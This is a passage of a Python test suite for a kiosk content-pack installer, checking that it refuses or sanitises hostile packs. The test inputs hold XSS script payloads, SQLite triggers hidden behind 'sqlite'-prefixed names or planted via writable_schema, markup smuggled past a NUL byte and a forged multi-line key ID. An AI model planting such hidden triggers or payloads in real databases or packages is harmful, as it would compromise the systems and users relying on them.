    encode: Callable[[dict[str, str]], str],
    ctx: Ctx,
    installer: Installer,
    data_dir: DataDir,
    installed: dict[str, str],
) -> None:
    description = {"en": f"Welcome to the bridge.{MARKUP} Lit at night.", "zh-Hans": f"中山铁桥{MARKUP}"}
    value = encode(description)
    pack = ctx.repack()
    pack.edit_db(lambda db: db.execute("UPDATE venues SET description = ? WHERE id = ?", (value, BRIDGE)))
    assert pack.query("SELECT description FROM venues WHERE id = ?", (BRIDGE,)) == [(value,)]
    result = installer.install(pack.write(ctx.out("markup"), ctx.key))
    assert result.content_version == 3
    assert result.texts_sanitised >= 1
    with ContentStore.open(data_dir) as store:
        venue = store.venue(BRIDGE)
        assert venue is not None
        for text in venue.description.values():
            assert "<" not in text and ">" not in text
            assert "alert" not in text and "onerror" not in text
        assert venue.description["en"].startswith("Welcome to the bridge.")
        assert venue.description["en"].endswith("Lit at night.")
        assert venue.description["zh-Hans"].startswith("中山铁桥")
        raw = store.conn.execute("SELECT description FROM venues WHERE id = ?", (BRIDGE,)).fetchone()[0]
        assert "<" not in raw and "\\u003c" not in raw.lower() and "&lt;" not in raw


def test_good_pack_after_the_refusals_still_installs(
    ctx: Ctx, installer: Installer, data_dir: DataDir, installed: dict[str, str]
) -> None:
    """Refusals leave no lock, staging folder or half state that blocks the next good pack."""
    for c in CASES[:10]:
        refusal(c, ctx, installer)
    result = installer.install(ctx.good)
    assert (result.previous_version, result.content_version) == (INSTALLED_VERSION, 3)
    with ContentStore.open(data_dir) as store:
        assert store.content_version == 3
        assert sorted(v.id for v in store.venues()) == VENUES


# --- holes found while writing this suite, now closed ---------------------------------------


def expect_refusal(installer: Installer, path: Path, pattern: str) -> str:
    with pytest.raises(PackError) as info:
        installer.install(path)
    message = str(info.value)
    assert re.search(pattern, message), message
    assert "\n" not in message and "Traceback" not in message, message
    return message


def _hidden_sqlitex_trigger(pack: Repack) -> None:
    # LIKE's '_' matches any character, so "sqlitex..." is skipped by schema_signature's
    # "name NOT LIKE 'sqlite_%'"; an ordinary CREATE TRIGGER is enough.
    pack.edit_db(
        "CREATE TRIGGER sqlitex_keep_markup AFTER UPDATE ON venues BEGIN UPDATE venues SET description = "
        '\'{"en": "<script>alert(1)</script>"}\' WHERE id = NEW.id; END'
    )


def _hidden_sqlite_trigger(pack: Repack) -> None:
    # A name that really starts with "sqlite_", written through writable_schema: SQLite loads
    # and fires it, and any filter on the "sqlite_" prefix skips it.
    pack.edit_db(
        "PRAGMA writable_schema = ON",
        "INSERT INTO sqlite_master VALUES ('trigger', 'sqlite_keep_markup', 'venues', 0, 'CREATE TRIGGER "
        "sqlite_keep_markup AFTER UPDATE ON venues BEGIN UPDATE venues SET description = "
        "''{\"en\": \"<script>alert(1)</script>\"}'' WHERE id = NEW.id; END')",
        "PRAGMA writable_schema = OFF",
    )


def _hidden_table(pack: Repack) -> None:
    pack.edit_db("CREATE TABLE sqlite1payload (blob BLOB); INSERT INTO sqlite1payload VALUES (randomblob(1000))")


@pytest.mark.parametrize(
    "hide",
    [
        pytest.param(_hidden_sqlitex_trigger, id="trigger-sqlitex"),
        pytest.param(_hidden_sqlite_trigger, id="trigger-sqlite_-writable-schema"),
        pytest.param(_hidden_table, id="table-sqlite1"),
    ],
)
def test_schema_objects_hidden_behind_sqlite_prefix_are_refused(
    hide: Callable[[Repack], None], ctx: Ctx, installer: Installer, data_dir: DataDir, installed: dict[str, str]
) -> None:
    pack = ctx.repack()
    hide(pack)
    expect_refusal(installer, pack.write(ctx.out("hidden"), ctx.key), UNEXPECTED_SCHEMA)
    assert_untouched(data_dir, installed)


def test_hidden_trigger_cannot_undo_install_time_sanitising(
    ctx: Ctx, installer: Installer, data_dir: DataDir, installed: dict[str, str]
) -> None:
    """The sanitiser's own UPDATE fires the hidden trigger, which writes the markup back."""
    pack = ctx.repack()
    _hidden_sqlitex_trigger(pack)
    pack.edit_db(f"""UPDATE venues SET summary = '{{"en": "<b>Lit</b> at night"}}' WHERE id = '{BRIDGE}'""")
    path = pack.write(ctx.out("trigger-markup"), ctx.key)
    try:
        installer.install(path)
    except PackError:
        assert_untouched(data_dir, installed)
        return
    with ContentStore.open(data_dir) as store:
        venue = store.venue(BRIDGE)
        assert venue is not None
        assert all("<" not in text for text in venue.description.values()), venue.description


def test_garbage_signature_by_trusted_key_is_not_reported_as_untrusted_key(
    ctx: Ctx, installer: Installer, data_dir: DataDir, installed: dict[str, str]
) -> None:
    pack = ctx.repack()
    sig = {"alg": "ed25519", "key_id": ctx.key.public.key_id, "sig": "%%% not base64 %%%"}
    path = pack.write(ctx.out("sig-b64"), None, signatures=json.dumps({"signatures": [sig]}).encode())
    message = expect_refusal(installer, path, r"signature")
    assert "does not trust" not in message
    assert_untouched(data_dir, installed)


def test_key_id_from_the_pack_cannot_break_the_one_line_message(
    ctx: Ctx, installer: Installer, data_dir: DataDir, installed: dict[str, str]
) -> None:
    fake = "0123456789abcdef\nTraceback (most recent call last):\nkiosk: content ready"
    sig = {"alg": "ed25519", "key_id": fake, "sig": base64.b64encode(bytes(64)).decode()}
    path = ctx.repack().write(ctx.out("key-id"), None, signatures=json.dumps({"signatures": [sig]}).encode())
    expect_refusal(installer, path, r"does not trust")
    assert_untouched(data_dir, installed)


def test_manifest_languages_not_a_list_is_refused(
    ctx: Ctx, installer: Installer, data_dir: DataDir, installed: dict[str, str]
) -> None:
    pack = ctx.repack()
    pack.manifest["languages"] = 5
    # Signed: an unsigned manifest is refused before a byte of it is parsed.
    expect_refusal(installer, pack.write(ctx.out("languages"), ctx.key), r"languages|manifest")
    assert_untouched(data_dir, installed)


def _bad_utf8_name(pack: Repack) -> list[Entry]:
    return [Entry(b"media/\xff\xfe.png", b"x", flags=0x800)]


def _future_zip_version(pack: Repack) -> list[Entry]:
    pack.entry(CONTENT_DB).extract_version = 99
    return []


@pytest.mark.parametrize(
    "quirk",
    [
        pytest.param(_bad_utf8_name, id="name-not-utf8"),
        pytest.param(_future_zip_version, id="zip-version-9.9"),
    ],
)
def test_zip_directory_quirks_are_refused_with_pack_error(
    quirk: Callable[[Repack], list[Entry]], ctx: Ctx, installer: Installer, data_dir: DataDir, installed: dict[str, str]
) -> None:
    pack = ctx.repack()
    extra = quirk(pack)
    expect_refusal(installer, pack.write(ctx.out("zip-quirk"), ctx.key, extra=extra), r"^(not a pack|refused)")
    assert_untouched(data_dir, installed)


@pytest.mark.parametrize("listed", [True, False], ids=["listed", "unlisted"])
def test_media_name_with_trailing_newline_is_refused(
    listed: bool, ctx: Ctx, installer: Installer, data_dir: DataDir, installed: dict[str, str]
) -> None:
    pack = ctx.repack()
    name = pack.media_name + "\n"
    pack.put(name, pack.data(pack.media_name), listed=listed)
    expect_refusal(installer, pack.write(ctx.out("newline"), ctx.key), r"not a plain name|unexpected file")
    assert_untouched(data_dir, installed)


def test_text_in_a_numeric_column_is_refused(
    ctx: Ctx, installer: Installer, data_dir: DataDir, installed: dict[str, str]
) -> None:
    pack = ctx.repack()
    pack.edit_db(f"UPDATE venues SET lat = '<script>alert(1)</script>' WHERE id = '{BRIDGE}'")
    expect_refusal(installer, pack.write(ctx.out("lat"), ctx.key), r"venues row '[a-z-]+' field 'lat': not a number")
    assert_untouched(data_dir, installed)


def test_search_index_from_the_pack_cannot_break_search(
    ctx: Ctx, installer: Installer, data_dir: DataDir, installed: dict[str, str]
) -> None:
    pack = ctx.repack()
    pack.edit_db("UPDATE search_docs SET kind = 'evil'")
    try:
        installer.install(pack.write(ctx.out("search"), ctx.key))
    except PackError:
        assert_untouched(data_dir, installed)
        return
    with ContentStore.open(data_dir) as store:
        assert {hit.id for hit in store.search("bridge")} >= {BRIDGE}


@pytest.mark.parametrize(
    "value",
    [
        pytest.param("'{\"en\": \"Lit\"}' || char(0) || '<script>alert(1)</script>'", id="after-the-object"),
        pytest.param("'{\"en\": \"Lit' || char(0) || '<b>at night</b>\"}'", id="inside-a-string"),
        pytest.param("'{\"en\": \"Lit' || char(0) || '&lt;b&gt;\"}'", id="entity-after-nul"),
    ],
)
def test_markup_hidden_behind_a_nul_byte_is_refused(
    value: str, ctx: Ctx, installer: Installer, data_dir: DataDir, installed: dict[str, str]
) -> None:
    """The markup scan's fast probes stop at a NUL; a text holding one is refused, not passed."""
    pack = ctx.repack()
    pack.edit_db(f"UPDATE venues SET summary = {value} WHERE id = '{BRIDGE}'")
    expected = r"venues row '[a-z-]+' field 'summary': not valid JSON"
    expect_refusal(installer, pack.write(ctx.out("nul"), ctx.key), expected)
    assert_untouched(data_dir, installed)
